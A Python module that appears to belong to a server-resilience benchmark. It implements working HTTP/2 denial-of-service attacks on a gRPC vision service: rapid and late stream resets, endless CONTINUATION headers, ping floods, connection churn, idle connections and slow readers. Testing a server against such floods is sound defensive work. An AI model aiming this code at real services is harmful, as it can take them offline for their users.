"""Attacks on connections: resets, pings, idle ones, and readers that do not read."""

import asyncio
import contextlib
import os
import socket
import struct
import threading
import time
from collections.abc import Callable, Iterator, Mapping
from concurrent.futures import ThreadPoolExecutor
from functools import partial
from queue import Empty, SimpleQueue

from bench.attacks import http2
from bench.attacks.attack import Attack, Outcome, Victim
from bench.attacks.http2 import RawConnection
from kestrel_client.v1 import vision_service_pb2 as wire

COMPLETE_QUERY = "/kestrel.v1.VisionService/CompleteQuery"
QUERY = "/kestrel.v1.VisionService/Query"
_BATCH = 100
_LATE_S = 0.01
_LAST_STREAM = 2**31 - 1
_SOCKET_TIMEOUT_S = 5.0
NUM_IDLE, NUM_DESCRIPTORS = 400, 256
NUM_SLOW_CONNECTIONS, NUM_SLOW_CALLS = 8, 16
NUM_FLOODED = 4
_READ_BYTES = 2**18
MAX_PINGS = 500_000
"""On one connection. So many fit into the socket buffers if the other side does not read."""


def _resets(headers: bytes) -> Iterator[bytes]:
    """Calls that are cancelled in the same breath, a batch at a time."""
    for streams in _streams():
        yield b"".join(_head(headers, stream) + _reset(stream) for stream in streams)


def _late_resets(headers: bytes) -> Iterator[bytes]:
    """Calls that are cancelled after the server has begun to handle them."""
    for streams in _streams():
        yield b"".join(_head(headers, stream) for stream in streams)
        time.sleep(_LATE_S)
        yield b"".join(map(_reset, streams))


def _refused(headers: bytes) -> Iterator[bytes]:
    """Calls that bring no token and no message."""
    for streams in _streams():
        yield b"".join(_head(headers, stream, http2.END_STREAM) for stream in streams)


def _streams() -> Iterator[range]:
    """The numbers of a client's streams, a batch at a time."""
    return (range(first, first + 2 * _BATCH, 2) for first in range(1, _LAST_STREAM - 2 * _BATCH, 2 * _BATCH))


def _head(headers: bytes, stream: int, flags: int = 0) -> bytes:
    return http2.frame(http2.HEADERS, http2.END_HEADERS | flags, stream, headers)


def _reset(stream: int) -> bytes:
    return http2.frame(http2.RST_STREAM, 0, stream, struct.pack(">I", http2.CANCEL))


def _continuations(headers: bytes) -> Iterator[bytes]:
    """One call whose headers never end: fields of a kilobyte that are not to be remembered."""
    field = b"\x00" + bytes((5,)) + b"x-pad" + b"\x7f" + bytes((0x81, 0x07)) + bytes(1024)
    yield http2.frame(http2.HEADERS, 0, 1, headers)
    batch = http2.frame(http2.CONTINUATION, 0, 1, field * 15) * 8
    while True:
        yield batch


def _churn(victim: Victim, seconds: float, call: bytes) -> Outcome:
    """Connections that greet, and may begin a call, and are dropped at once."""
    end, outcome = time.monotonic() + seconds, Outcome()
    greeting = http2.PREFACE + http2.settings() + call
    while time.monotonic() < end:
        try:
            with socket.create_connection((victim.host, victim.port), _SOCKET_TIMEOUT_S) as connection:
                connection.sendall(greeting)
                outcome["connections"] += 1
        except OSError:
            outcome["not connected"] += 1
    return outcome


def _pings(headers: bytes) -> Iterator[bytes]:
    batch = b"".join(http2.frame(http2.PING, 0, 0, os.urandom(8)) for _ in range(_BATCH))
    while True:
        yield batch


def _discard(connection: socket.socket, answers: SimpleQueue[bytes]) -> None:
    """Read until the connection is closed, here or there."""
    with contextlib.suppress(OSError):
        while connection.recv(_READ_BYTES):
            pass
        # Of a connection that only the server has closed, writing would go on until its kernel says so.
        connection.shutdown(socket.SHUT_RDWR)


def _ignore(connection: socket.socket, answers: SimpleQueue[bytes]) -> None:
    """Read nothing."""


def _answer(connection: socket.socket, answers: SimpleQueue[bytes]) -> None:
    """Read as `_discard` does, and acknowledge settings and pings as the protocol asks for."""
    buffer = bytearray()
    with contextlib.suppress(OSError):
        while data := connection.recv(_READ_BYTES):
            buffer += data
            at = 0
            while len(buffer) >= at + 9 and len(buffer) >= at + 9 + (size := int.from_bytes(buffer[at : at + 3])):
                kind, flags = buffer[at + 3], buffer[at + 4]
                if kind == http2.SETTINGS and not flags & http2.ACK:
                    answers.put(http2.frame(http2.SETTINGS, http2.ACK, 0))
                elif kind == http2.PING and not flags & http2.ACK:
                    answers.put(http2.frame(http2.PING, http2.ACK, 0, bytes(buffer[at + 9 : at + 9 + size])))
                at += 9 + size
            del buffer[:at]
        connection.shutdown(socket.SHUT_RDWR)


_Reads = Callable[[socket.socket, SimpleQueue[bytes]], None]


def _flood(
    batches: Callable[[bytes], Iterator[bytes]],
    victim: Victim,
    seconds: float,
    headers: bytes,
    *,
    reads: _Reads = _discard,
) -> Outcome:
    """Writes as fast as the socket takes it, on a new connection wherever the server has closed the last."""
    end, outcome = time.monotonic() + seconds, Outcome()
    while time.monotonic() < end:
        try:
            with socket.create_connection((victim.host, victim.port), _SOCKET_TIMEOUT_S) as connection:
                outcome["connections"] += 1
                connection.sendall(http2.PREFACE + http2.settings())
                answers: SimpleQueue[bytes] = SimpleQueue()
                threading.Thread(target=reads, args=(connection, answers), daemon=True).start()
                if reads is _answer:
                    # The server limits the calls of a client that has not acknowledged its settings.
                    connection.sendall(answers.get(timeout=_SOCKET_TIMEOUT_S))
                for batch in batches(headers):
                    left_s = end - time.monotonic()
                    if left_s <= 0.0:
                        break
                    connection.settimeout(left_s)
                    while not answers.empty():
                        connection.sendall(answers.get())
                    connection.sendall(batch)
                    outcome["batches"] += 1
        except TimeoutError:
            break
        except (OSError, Empty):
            # The server has had enough of this connection.
            time.sleep(0.01)
    return outcome


def _on_many_connections(
    batches: Callable[[bytes], Iterator[bytes]], victim: Victim, seconds: float, headers: bytes
) -> Outcome:
    """The same on several connections at a time, each by a thread."""
    with ThreadPoolExecutor(NUM_FLOODED) as threads:
        flood = partial(_flood, batches, victim, seconds, headers, reads=_answer)
        return sum((item.result() for item in [threads.submit(flood) for _ in range(NUM_FLOODED)]), Outcome())


def _call_headers() -> bytes:
    return http2.call_headers(COMPLETE_QUERY)


def _unknown_headers() -> bytes:
    return http2.call_headers("/no.Service/Method")


def _first_call() -> bytes:
    return _head(_call_headers(), 1)


def _large_headers() -> bytes:
    """Of 5 kB."""
    return http2.call_headers(
        COMPLETE_QUERY, extra=[(f"x-{number}", os.urandom(250).hex()) for number in range(10)]
    )


def _idle(victim: Victim, seconds: float, prepared: None) -> Outcome:
    """Connections that greet and then stand still."""
    connections: list[socket.socket] = []
    outcome = Outcome()
    end = time.monotonic() + seconds
    for _ in range(NUM_IDLE):
        try:
            connection = socket.create_connection((victim.host, victim.port), _SOCKET_TIMEOUT_S)
            connections.append(connection)
            connection.sendall(http2.PREFACE + http2.settings())
            outcome["connected"] += 1
        except OSError:
            outcome["refused"] += 1
    time.sleep(max(0.0, end - time.monotonic()))
    for connection in connections:
        connection.close()
    return outcome


def _slow_readers(victim: Victim, seconds: float, prepared: None) -> Outcome:
    return asyncio.run(_read_nothing(victim, seconds))


async def _read_nothing(victim: Victim, seconds: float) -> Outcome:
    """Long answers, of which the server may send nothing at all."""
    outcome = Outcome()
    headers = http2.call_headers(QUERY, victim.token)
    sampling = {"max_tokens": 300, "temperature": 50.0, "top_p": 1.0}
    message = http2.grpc_message(wire.QueryRequest(question="hello", sampling=sampling).SerializeToString())
    end = time.monotonic() + seconds

    async def connect() -> None:
        async with RawConnection.open(victim.host, victim.port, initial_window_size=0) as connection:
            streams = [await connection.start(headers) for _ in range(NUM_SLOW_CALLS)]
            await asyncio.gather(*(connection.send(stream, message, is_last=True) for stream in streams))
            await asyncio.sleep(max(0.0, end - time.monotonic()))
            for stream in streams:
                outcome[await connection.status(stream, 0.01)] += 1

    await asyncio.gather(*(connect() for _ in range(NUM_SLOW_CONNECTIONS)))
    return Outcome(http2.code_names(outcome))


def _check_pings(outcome: Mapping[str, int], log: str) -> list[str]:
    """A server that punishes floods closes the connection, or reads it no more."""
    num_pings, num_connections = _BATCH * outcome.get("batches", 0), outcome.get("connections", 0)
    if num_pings <= MAX_PINGS * num_connections:
        return []
    return [f"{num_pings:,} pings were read from {num_connections} connections"]


ATTACKS = (
    Attack(
        "rapid-reset",
        "HTTP/2 rapid reset, two processes, no token",
        partial(_flood, _resets),
        _call_headers,
        num_processes=2,
    ),
    Attack(
        "late-reset", "the same, reset after 10 ms", partial(_flood, _late_resets), _call_headers, num_processes=2
    ),
    Attack(
        "settled-resets",
        "rapid reset by clients that acknowledge the server's settings, two processes, no token",
        partial(_flood, _resets, reads=_answer),
        _call_headers,
        num_processes=2,
    ),
    Attack(
        "settled-late-resets",
        "the same, reset after 10 ms",
        partial(_flood, _late_resets, reads=_answer),
        _call_headers,
        num_processes=2,
    ),
    Attack(
        "settled-refusals",
        "calls without token whose refusals are read, two processes",
        partial(_flood, _refused, reads=_answer),
        _call_headers,
        num_processes=2,
    ),
    Attack(
        "many-resets",
        f"rapid reset on {2 * NUM_FLOODED} connections, of a method that there is not, two processes, no token",
        partial(_on_many_connections, _resets),
        _unknown_headers,
        num_processes=2,
    ),
    Attack(
        "large-resets",
        "rapid reset with headers of 5 kB, two processes, no token",
        partial(_flood, _resets, reads=_answer),
        _large_headers,
        num_processes=2,
    ),
    Attack(
        "endless-headers",
        "calls whose headers go on in CONTINUATION frames without end, two processes, no token",
        partial(_flood, _continuations, reads=_answer),
        _call_headers,
        num_processes=2,
    ),
    Attack(
        "churn", "connections that are dropped at once, two processes, no token", _churn, bytes, num_processes=2
    ),
    Attack(
        "churn-of-calls",
        "connections that begin a call and are dropped at once, two processes, no token",
        _churn,
        _first_call,
        num_processes=2,
    ),
    Attack(
        "ping-flood",
        "ping flood, two processes, no token",
        partial(_flood, _pings),
        _call_headers,
        num_processes=2,
        check=_check_pings,
    ),
    Attack(
        "unread-refusals",
        "calls without token whose refusals are never read, two processes",
        partial(_flood, _refused, reads=_ignore),
        _call_headers,
        num_processes=2,
    ),
    Attack(
        "slow-readers",
        f"{NUM_SLOW_CONNECTIONS * NUM_SLOW_CALLS} streamed answers that are never read, one token",
        _slow_readers,
    ),
    Attack(
        "idle-connections",
        f"{NUM_IDLE} idle connections, server with {NUM_DESCRIPTORS} descriptors; others connect anew",
        _idle,
        num_descriptors=NUM_DESCRIPTORS,
        needs_new_connections=True,
    ),
)
